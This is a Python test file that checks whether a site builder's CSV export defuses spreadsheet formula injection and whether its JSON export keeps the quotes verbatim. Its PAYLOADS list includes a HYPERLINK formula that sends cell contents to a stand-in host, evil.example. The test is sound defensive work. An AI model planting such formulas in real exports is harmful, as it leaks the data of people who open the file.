"""The data exports are safe to open: a spreadsheet runs no formula a quoted page smuggled into claims.csv."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from evidencemap.build import BuildOptions, build

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Flat feet cause low back pain.")',
    "+Flat feet cause low back pain.",
    "-Flat feet cause low back pain, they say.",
    "@Flat feet cause low back pain in adults.",
)


def test_claims_csv_neutralises_cells_a_spreadsheet_would_run(content_copy: Path, tmp_path: Path) -> None:
    """Quotes that begin with =, +, - or @ come out of the CSV as text (a leading apostrophe); the JSON export keeps
    them verbatim, so nothing a reader or a script needs is lost."""
    body = "\n\n".join(PAYLOADS)
    (content_copy / "sources" / "formulas.md").write_text(
        f"---\ntitle: Formula test\nkind: blog\n---\n\n{body}\n", encoding="utf-8"
    )
    out = tmp_path / "site"
    build(content_copy, out, options=BuildOptions(use_cache=False, jobs=1))

    rows = list(csv.reader(io.StringIO((out / "data" / "claims.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    quotes = {row[rows[0].index("quote")] for row in rows[1:] if row[rows[0].index("source")] == "formulas"}
    assert quotes == {"'" + payload for payload in PAYLOADS}, "every payload became a claim, shown as text"

    dataset = json.loads((out / "data" / "evidence.json").read_text(encoding="utf-8"))
    verbatim = {c["quote"] for c in dataset["claims"] if c["source"] == "formulas"}
    assert verbatim == set(PAYLOADS)
